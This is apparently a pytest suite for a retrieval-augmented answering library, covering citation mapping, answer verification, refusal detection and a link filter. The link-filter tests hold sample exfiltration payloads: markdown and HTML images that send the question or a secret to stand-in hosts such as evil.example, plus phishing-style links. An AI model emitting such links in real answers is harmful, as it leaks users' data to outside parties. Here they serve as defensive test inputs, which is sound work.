import pytest

from ragloom.agents.citations import (
    extract_citations,
    format_sources,
    is_refusal,
    restates_question,
)
from ragloom.agents.verify import verify_answer
from ragloom.retrieval.types import RetrievedChunk


def _chunks(*texts: str) -> list[RetrievedChunk]:
    return [RetrievedChunk(id=f"c{i}", text=t, source=f"/docs/f{i}.md", chunk_index=i,
                           page=i + 1, score=0.9) for i, t in enumerate(texts)]


def test_valid_markers_map_to_given_chunks() -> None:
    chunks = _chunks("Shipping takes 3 days.", "Returns within 30 days.")
    text, cites, dropped = extract_citations("Shipping takes 3 days [1]. Returns [2].", chunks)
    assert [c.chunk_id for c in cites] == ["c0", "c1"] and dropped == 0
    assert text == "Shipping takes 3 days [1]. Returns [2]."
    assert cites[0].page == 1 and cites[0].method == "model"


def test_markers_to_chunks_not_given_are_removed_and_counted() -> None:
    chunks = _chunks("only one")
    text, cites, dropped = extract_citations("Fact [1][7]. Other [1, 9].", chunks)
    assert text == "Fact [1]. Other [1]."
    assert [c.n for c in cites] == [1] and dropped == 2


def test_sources_are_numbered_and_delimited() -> None:
    block = format_sources(_chunks("alpha", "beta"))
    assert block.index("[1] (f0.md, page 1)") < block.index("alpha") < block.index("[2]")
    assert "<<<" in block and ">>>" in block


def test_uncited_sentences_get_the_source_that_supports_them() -> None:
    chunks = _chunks("Green tea brews at 75 degrees for 2 minutes.",
                     "Orders to Canada take 7 to 10 business days.")
    checked = verify_answer("Canada orders take 7 to 10 business days.", chunks,
                            "How long does shipping take?")
    assert checked.text == "Canada orders take 7 to 10 business days [2]."
    assert [(c.n, c.method) for c in checked.citations] == [(2, "check")]


def test_unsupported_sentence_stays_uncited() -> None:
    chunks = _chunks("Green tea brews at 75 degrees.")
    checked = verify_answer("The moon is made of cheese.", chunks, "What is the moon made of?")
    assert checked.text == "The moon is made of cheese." and checked.citations == []


def test_words_copied_from_the_question_attribute_nothing() -> None:
    # Every word but "red" comes from the question and the chunk: overlap alone would cite [1].
    chunks = _chunks("The Zephyr Kite Club was founded in 1987 by Marta Okonkwo.")
    checked = verify_answer("The official Zephyr Kite Club kite is a red kite.", chunks,
                            "What colour is the official Zephyr Kite Club kite?")
    assert checked.citations == [] and checked.claims[0].missing == ["red"]


def test_refusal_detection() -> None:
    assert is_refusal("I don't know.") and is_refusal("I do not know the answer")
    assert is_refusal("I don’t know")
    assert not is_refusal("Shipping takes 3 days; I don't know about returns.")


@pytest.mark.parametrize(("answer", "question", "echo"), [
    ("If Gallu is a demon Lilu is what [3]?", "If Gallu is a demon Lilu is what?", True),
    ("According to the documents, the publisher is based where.",
     "The publisher of her novel is based where?", True),
    ("According to the documents, Lilu is a spirit [1].", "If Gallu is a demon Lilu is what?", False),
    ("Nolan and Kalathil are both film directors [1].", "Are Nolan and Kalathil both film directors?",
     False),
    ("The Exies was formed first [2].", "Which band was formed first, The Exies or Circus Diablo?",
     False),
])
def test_an_answer_that_only_repeats_the_question_is_recognised(answer, question, echo) -> None:
    assert restates_question(answer, question) is echo


def test_links_and_images_not_in_the_question_or_sources_are_removed() -> None:
    from ragloom.agents.links import REMOVED, filter_links

    sources = ["Reset it at https://intranet.example/reset. Items can be returned within 30 days."]
    assert filter_links("30 days ![logo](https://evil.example/c?q=my+question) [1].", sources) == (
        "30 days [1].", 1)  # an image is a request the browser makes: never kept
    assert filter_links("<img src='https://c.example/x?d=SECRET'> 15 kg", sources) == ("15 kg", 1)
    assert filter_links("See https://intranet.example/reset.", sources) == (
        "See https://intranet.example/reset.", 0)  # copied from a source: kept
    assert filter_links("[reset](https://intranet.example/reset)", sources)[1] == 0
    assert filter_links("Verify at http://login.evil.example/x now", sources) == (
        f"Verify at {REMOVED} now", 1)
    assert filter_links("[confirm](http://pay.evil.example/f) by the 25th", sources) == (
        f"confirm {REMOVED} by the 25th", 1)
    # a source's URL with the question appended is not the source's URL
    assert filter_links("https://intranet.example/reset?q=question", sources)[1] == 1
    assert filter_links("Read https://docs.example/a as you asked.", ["see https://docs.example/a"]
                        ) == ("Read https://docs.example/a as you asked.", 0)


def test_cited_answer_filters_links_before_citations() -> None:
    from ragloom.agents.generation import cited_answer
    from ragloom.retrieval.types import RetrievedChunk

    chunk = RetrievedChunk(id="c1", text="Returns are accepted within 30 days.", source="r.md",
                           page=None, chunk_index=0, score=1.0)
    out = cited_answer("Within 30 days [1]. ![x](https://evil.example/p.png?d=q)", [chunk],
                       "How long for returns?")
    assert out["answer"] == "Within 30 days [1]." and out["links_removed"] == 1
    assert [c.chunk_id for c in out["citations"]] == ["c1"]
